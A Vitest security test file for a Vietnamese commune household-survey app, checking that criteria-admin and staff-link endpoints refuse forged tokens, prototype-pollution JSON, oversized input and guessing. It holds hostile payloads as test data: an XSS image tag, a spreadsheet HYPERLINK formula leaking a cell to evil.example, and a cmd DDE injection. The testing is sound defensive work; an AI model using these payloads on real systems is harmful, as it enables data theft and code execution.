/**
 * Attacks on the live criteria adoption (issue 15, brief F), through the real app over a real SQLite
 * file and the real recount worker thread: every role and forged sessions, hostile content (prototype
 * keys, placeholders, HTML, formulas, bidi, huge bodies), and the readers after a criterion is removed
 * or renamed (a queued answer for it, the gaps the nudges use, a week frozen under the old set).
 * After each scenario the kept counts equal a recount (0 differences) and the segments' check is empty.
 */
import { afterEach, describe, expect, it } from "vitest";
import type { CatalogueView, HouseholdView } from "../../shared/contracts";
import type { CriteriaAdminView, CriteriaAdoptResponse } from "../../shared/contracts/criteria";
import { PILLAR_LABELS } from "../../shared/criteria";
import { createGdsApp, DEMO, key, type GdsTestApp } from "../households/support";
import { Resident } from "../support/resident";
import { startStack, type Stack } from "../support/stack";

let t: GdsTestApp | undefined;
afterEach(async () => {
  await t?.close();
  t = undefined;
});

const LEFT = "ung-dung-nong-nghiep";
const RENAMED = "vneid-muc-2";
const OWN = {
  id: "hoc-ky-nang-so",
  pillar: "xa-hoi-so" as const,
  label: "Có người trong hộ học lớp kỹ năng số của xã",
  help: "Đạt khi có ít nhất một người trong hộ đã học một buổi kỹ năng số do xã tổ chức.",
  relevance: { mayDecline: false },
};

async function app(): Promise<GdsTestApp> {
  t = await createGdsApp({ env: { DB_SYNCHRONOUS: "NORMAL", RATE_LIMIT_PER_MINUTE: "1000000" } });
  return t;
}

async function household(g: GdsTestApp, user: string, villageId: string, label: string): Promise<HouseholdView> {
  const r = await g.call<HouseholdView>(user, "POST", "/api/households", { villageId, label, flags: {} });
  expect(r.status, JSON.stringify(r.body)).toBe(201);
  const cat = (await g.call<CatalogueView>(user, "GET", "/api/catalogue")).body;
  const changes = cat.criteria.filter((c) => !c.relevance.flags).map((c, i) => ({ criterionId: c.id, value: i % 3 === 2 ? "chua_dat" : "dat", idempotencyKey: key() }));
  expect((await g.call(user, "POST", `/api/households/${r.body.id}/answers`, { changes })).status).toBe(200);
  return r.body;
}

async function view(g: GdsTestApp): Promise<CriteriaAdminView> {
  const v = await g.call<CriteriaAdminView>(DEMO.admin, "GET", "/api/admin/criteria");
  expect(v.status).toBe(200);
  return v.body;
}

/** The numbers stay right: the kept counts equal a recount, households' and segments' alike. */
async function numbersRight(g: GdsTestApp): Promise<void> {
  const c = await g.call(DEMO.admin, "POST", "/api/admin/aggregates/check", { fix: false });
  expect(c.status, JSON.stringify(c.body)).toBe(200);
  expect(c.body.differences, JSON.stringify(c.body.samples)).toBe(0);
  expect(g.services.segments.repo.check(false)).toEqual([]);
}

const raw = (g: GdsTestApp, who: string | null, url: string, payload: string) =>
  g.app.inject({ method: "POST", url, headers: { ...(who ? g.as(who) : {}), "content-type": "application/json" }, payload });

describe("who may read, preview and adopt the criteria", () => {
  it("outsiders, forged or tampered sessions and every non-admin role are refused, and nothing changes", async () => {
    const g = await app();
    const before = await view(g);
    const adopt = { baseVersion: before.version, choice: { exclude: [LEFT] } };
    const good = g.as(DEMO.admin).authorization!;
    const [head, payload, sig] = good.slice("Bearer ".length).split(".");
    const tampered = [
      "Bearer x.y.z",
      `Bearer ${head}.${payload}.${sig?.slice(0, -2)}AA`,
      `Bearer ${head}.${Buffer.from(JSON.stringify({ sub: DEMO.admin, admin: true })).toString("base64url")}.${sig}`,
      good.replace("Bearer ", "Basic "),
    ];
    for (const [method, url, body] of [
      ["GET", "/api/admin/criteria", undefined],
      ["POST", "/api/admin/criteria/preview", { choice: { exclude: [LEFT] } }],
      ["POST", "/api/admin/criteria", adopt],
    ] as const) {
      expect((await g.call(null, method, url, body)).status, `${method} ${url} outsider`).toBe(401);
      for (const authorization of tampered) {
        const r = await g.app.inject({ method, url, headers: { authorization }, ...(body ? { payload: body } : {}) });
        expect(r.statusCode, `${method} ${url} ${authorization.slice(0, 20)}`).toBe(401);
      }
      for (const who of ["7001", DEMO.headDongXuan, DEMO.officer]) {
        const r = await g.call(who, method, url, body);
        expect(r.status, `${method} ${url} as ${who}`).toBe(403);
        expect(r.body.error.message).toMatch(/quản trị viên/);
      }
    }
    const after = await view(g);
    expect(after.version).toBe(before.version);
    expect(after.active.key).toBe(before.active.key);
    expect(g.services.gds.liveCatalogue.running()).toBe(false);
  });
});

describe("hostile content in a criteria choice", () => {
  it("prototype keys, unknown placeholders, huge lists and bodies are refused in plain words and change nothing", async () => {
    const g = await app();
    const v = await view(g);
    const url = "/api/admin/criteria";
    const bad: [string, string][] = [
      ["__proto__ in relabel", `{"baseVersion":${v.version},"choice":{"relabel":{"__proto__":{"label":"Tên mới bị chèn vào mọi đối tượng"}}}}`],
      ["constructor in relabel", `{"baseVersion":${v.version},"choice":{"relabel":{"constructor":{"label":"Tên mới bị chèn vào mọi đối tượng"}}}}`],
      ["__proto__ as the choice", `{"baseVersion":${v.version},"choice":{"__proto__":{"exclude":["${LEFT}"]},"exclude":["${LEFT}","__proto__"]}}`],
      ["{{constructor}}", JSON.stringify({ baseVersion: v.version, choice: { extra: [{ ...OWN, label: "Biết dùng {{constructor}} của xã" }] } })],
      ["{{__proto__.x}}", JSON.stringify({ baseVersion: v.version, choice: { extra: [{ ...OWN, help: "Đạt khi biết dùng {{__proto__.toString}} của xã." }] } })],
      ["{{commune.constructor}}", JSON.stringify({ baseVersion: v.version, choice: { relabel: { [RENAMED]: { label: "Có tài khoản {{commune.constructor}} mức 2" } } } })],
      ["10,000 excluded ids", JSON.stringify({ baseVersion: v.version, choice: { exclude: Array.from({ length: 10_000 }, (_, i) => `tieu-chi-${i}`) } })],
      ["51 own criteria", JSON.stringify({ baseVersion: v.version, choice: { extra: Array.from({ length: 51 }, (_, i) => ({ ...OWN, id: `rieng-${i}` })) } })],
      ["a label of 100 KB", JSON.stringify({ baseVersion: v.version, choice: { extra: [{ ...OWN, label: "a".repeat(100_000) }] } })],
      ["only bidi and zero-width", JSON.stringify({ baseVersion: v.version, choice: { extra: [{ ...OWN, label: "\u202e\u2066\u200b\u200d\u2069\u202c\ufeff" }] } })],
      ["not JSON", `{"baseVersion":${v.version},"choice":{"exclude":[`],
    ];
    for (const [what, body] of bad) {
      const r = await raw(g, DEMO.admin, url, body);
      expect([400, 413], `${what}: ${r.body.slice(0, 300)}`).toContain(r.statusCode);
      const msg = r.json().error.message as string;
      expect(msg, what).toMatch(/[ạảãáàâầấậẩẫăằắặẳẵêềếệểễôồốộổỗơờớợởỡưừứựửữđìíịỉĩòóọỏõùúụủũỳýỵỷỹ]/);
      expect(msg, what).not.toMatch(/Máy chủ gặp lỗi|prototype|undefined|TypeError/);
    }
    expect(({} as Record<string, unknown>).label).toBeUndefined();
    expect(Object.prototype.hasOwnProperty.call(Object.prototype, "exclude")).toBe(false);
    const after = await view(g);
    expect(after.version).toBe(v.version);
    expect(after.active.key).toBe(v.active.key);
  });

  it("an own criterion named like a prototype property, with HTML and a spreadsheet formula, is stored as text and counted right", async () => {
    const g = await app();
    const h = await household(g, "7301", "thon-dong-xuan", "Hộ ông Đỗ Văn Năm");
    const v = await view(g);
    const html = `<img src=x onerror="alert(1)"> Có người trong hộ học lớp kỹ năng số`;
    const formula = `=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")`;
    const own = [
      { ...OWN, id: "constructor", label: html },
      { ...OWN, id: "to-string", label: formula, help: "+cmd|' /C calc'!A0 đạt khi có người học." },
    ];
    const adopt = await g.call<CriteriaAdoptResponse>(DEMO.admin, "POST", "/api/admin/criteria", { baseVersion: v.version, choice: { ...v.choice, extra: own } });
    expect(adopt.status, JSON.stringify(adopt.body)).toBe(202);
    await g.services.criteria.service.settled();
    await numbersRight(g);

    // The household sees both as unanswered (an unanswered "constructor" is not Object's constructor).
    const hv = (await g.call("7301", "GET", `/api/households/${h.id}`)).body as { criteria: { id: string; status: string; label: string }[] };
    expect(hv.criteria.find((c) => c.id === "constructor")).toMatchObject({ status: "unanswered", label: html });
    expect(hv.criteria.find((c) => c.id === "to-string")).toMatchObject({ status: "unanswered", label: formula });
    const ans = await g.call("7301", "POST", `/api/households/${h.id}/answers`, {
      changes: [
        { criterionId: "constructor", value: "dat", idempotencyKey: key() },
        { criterionId: "to-string", value: "chua_dat", idempotencyKey: key() },
      ],
    });
    expect(ans.status, JSON.stringify(ans.body)).toBe(200);
    await numbersRight(g);
    // The gaps the nudges send: the formula criterion is missing for this household, "constructor" is not.
    const gaps = g.services.gds.reports.householdGaps(["thon-dong-xuan"], undefined);
    expect(JSON.stringify(gaps)).not.toContain("constructor");

    // The weekly CSV never starts a cell with a formula.
    expect((await g.call(DEMO.admin, "POST", "/api/admin/snapshots/freeze")).status).toBe(200);
    g.clock.advance(7 * 24 * 3600_000);
    const frozen = await g.call(DEMO.admin, "POST", "/api/admin/snapshots/freeze");
    expect(frozen.body.frozen).toBe(true);
    const csv = await g.app.inject({ method: "GET", url: `/api/exports/${frozen.body.week}.csv?table=criteria`, headers: g.as(DEMO.officer) });
    expect(csv.statusCode, csv.body.slice(0, 300)).toBe(200);
    expect(csv.body).toContain("HYPERLINK");
    for (const cell of csv.body.split(/\r?\n/).flatMap((l) => l.split(","))) expect(cell.replace(/^"/, ""), cell).not.toMatch(/^[=+@]/);
  });
});

describe("an own criterion whose code is a guide's", () => {
  it("a criterion coded like a guide (and pointing to one, or to none) is counted on its own and opens the right guide", async () => {
    const g = await app();
    const h = await household(g, "7311", "thon-dong-xuan", "Hộ ông Tạ Văn Mười");
    expect(g.services.gds.households.linkOaUser("7311", "oa-7311").linked).toBe(true);
    const v = await view(g);
    const own = [
      { ...OWN, id: "nhom-zalo-thon", guideId: "lua-dao-truc-tuyen", label: "Có người trong hộ vào nhóm Zalo của thôn" },
      { ...OWN, id: "rieng-khong-huong-dan", guideId: "khong-co-huong-dan-nay", label: "Có người trong hộ biết đọc bản tin của xã" },
    ];
    expect((await g.call(DEMO.admin, "POST", "/api/admin/criteria", { baseVersion: v.version, choice: { ...v.choice, extra: own } })).status).toBe(202);
    await g.services.criteria.service.settled();
    await numbersRight(g);
    const missing = g.services.gds.households.householdForOaUser("oa-7311")!.missing;
    expect(missing.find((m) => m.id === "nhom-zalo-thon")).toMatchObject({ guideId: "lua-dao-truc-tuyen" });
    // The guide with the criterion's code is still the guide, untouched.
    expect(g.services.chat.library.get("nhom-zalo-thon")?.id).toBe("nhom-zalo-thon");
    const a = await g.call("7311", "POST", `/api/households/${h.id}/answers`, { changes: [{ criterionId: "nhom-zalo-thon", value: "dat", idempotencyKey: key() }] });
    expect(a.status, JSON.stringify(a.body)).toBe(200);
    await numbersRight(g);
  });
});

describe("the chat after the commune changed its criteria", () => {
  let s: Stack | undefined;
  afterEach(async () => {
    await s?.close();
    s = undefined;
  });

  const adoptOn = async (st: Stack, choice: object) => {
    const headers = { authorization: `Bearer ${st.services.gds.auth.issue(DEMO.admin).session}` };
    const v = (await st.app.inject({ method: "GET", url: "/api/admin/criteria", headers })).json() as CriteriaAdminView;
    const r = await st.app.inject({ method: "POST", url: "/api/admin/criteria", headers, payload: { baseVersion: v.version, choice: { ...v.choice, ...choice } } });
    expect(r.statusCode, r.body).toBe(202);
    await st.services.criteria.service.settled();
  };

  it("'what is missing' for a linked household names the renamed criterion by its new name and never the removed one", async () => {
    s = await startStack();
    const st = s;
    const appUser = "8700000000000000001";
    const oaUser = "8700000000000000901";
    const headers = { authorization: `Bearer ${st.services.gds.auth.issue(appUser).session}` };
    const reg = await st.app.inject({ method: "POST", url: "/api/households", headers, payload: { villageId: "thon-dong-xuan", label: "Hộ ông Hồ Văn Sáu", flags: {} } });
    expect(reg.statusCode, reg.body).toBe(201);
    expect(st.services.gds.households.linkOaUser(appUser, oaUser).linked).toBe(true);
    const before = st.services.gds.households.householdForOaUser(oaUser)!;
    const removed = before.missing.find((m) => m.id === LEFT)!.label;
    await adoptOn(st, { exclude: [LEFT], relabel: { [RENAMED]: { label: "Người lớn trong hộ có tài khoản định danh điện tử mức 2 đã kích hoạt" } } });
    const said = (await new Resident(st, oaUser).say("hộ tôi còn thiếu tiêu chí gì gia đình số")).map((m) => m.text).join("\n");
    expect(said).toContain("Người lớn trong hộ có tài khoản định danh điện tử mức 2 đã kích hoạt");
    expect(said).not.toContain(removed);
  }, 60_000);

  it("'Gia đình số là gì' counts the commune's own criteria per pillar, not the shipped defaults", async () => {
    // WRONG TODAY: bot/chat/conversation-service.ts giaDinhSo() (a resident whose chat is not linked
    // to a household) and bot/chat/anonymous.ts giaDinhSo() count `GIA_DINH_SO_2025.criteria`, the
    // shipped default set, per pillar: after the admin leaves criteria out, adds the province's
    // optional ones or the commune's own, the chat still says e.g. "Kinh tế số (N tiêu chí)" with the
    // shipped N (even the demo file's own `include` is missed: "Xã hội số (9 tiêu chí)" where the
    // commune uses 10). Both should count the live catalogue (gds.liveCatalogue.view.byPillar). Not in the
    // files this brief may change (bot/chat/*).
    s = await startStack();
    const st = s;
    await adoptOn(st, { exclude: [LEFT], extra: [{ ...OWN, pillar: "kinh-te-so" }] });
    const live = st.services.gds.liveCatalogue.current();
    const said = (await new Resident(st, "8700000000000000902").say("gia đình số là gì")).map((m) => m.text).join("\n");
    for (const p of ["chinh-quyen-so", "kinh-te-so", "xa-hoi-so"] as const) {
      expect(said).toContain(`${PILLAR_LABELS[p]} (${live.byPillar[p].length} tiêu chí)`);
    }
  }, 60_000);
});

describe("the mini app's staff-link entry (POST /api/staff-link)", () => {
  it("outsiders and forged sessions are refused; odd codes get plain words; guessing hits the limits; nobody gains a role", async () => {
    const g = await app();
    const url = "/api/staff-link";
    expect((await g.call(null, "POST", url, { code: "123456" })).status).toBe(401);
    expect((await g.app.inject({ method: "POST", url, headers: { authorization: "Bearer a.b.c" }, payload: { code: "123456" } })).statusCode).toBe(401);
    const who = "8800000000000000001";
    for (const code of ["\u202e654321", "１２３４５６", "12345", "1234567", "<b>1</b>", "9".repeat(100_000)]) {
      const r = await g.call(who, "POST", url, { code });
      expect([400, 413], `${code.slice(0, 12)} → ${JSON.stringify(r.body).slice(0, 200)}`).toContain(r.status);
      expect(r.body.error.message).toMatch(/6 chữ số|quá lớn|dài/);
    }
    expect((await raw(g, who, url, `{"code":{"__proto__":{"admin":true}}}`)).statusCode).toBe(400);
    // Guessing: wrong codes are refused, then the person is stopped (per person), in Vietnamese.
    const statuses: number[] = [];
    let last: { error: { message: string } } | undefined;
    for (let i = 0; i < 12; i++) {
      const r = await g.call(who, "POST", url, { code: String(100000 + i) });
      statuses.push(r.status);
      last = r.body;
    }
    // (The route allows 10 calls a minute per person, the odd codes above included.)
    expect(statuses[0]).toBe(422);
    expect(statuses.every((s) => s === 422 || s === 429)).toBe(true);
    expect(statuses.at(-1)).toBe(429);
    expect(last!.error.message).toMatch(/thử lại|phút/);
    const me = await g.call(who, "GET", "/api/me");
    expect(me.body.me?.roles ?? me.body.roles).toMatchObject({ officer: false, admin: false });
  });
});
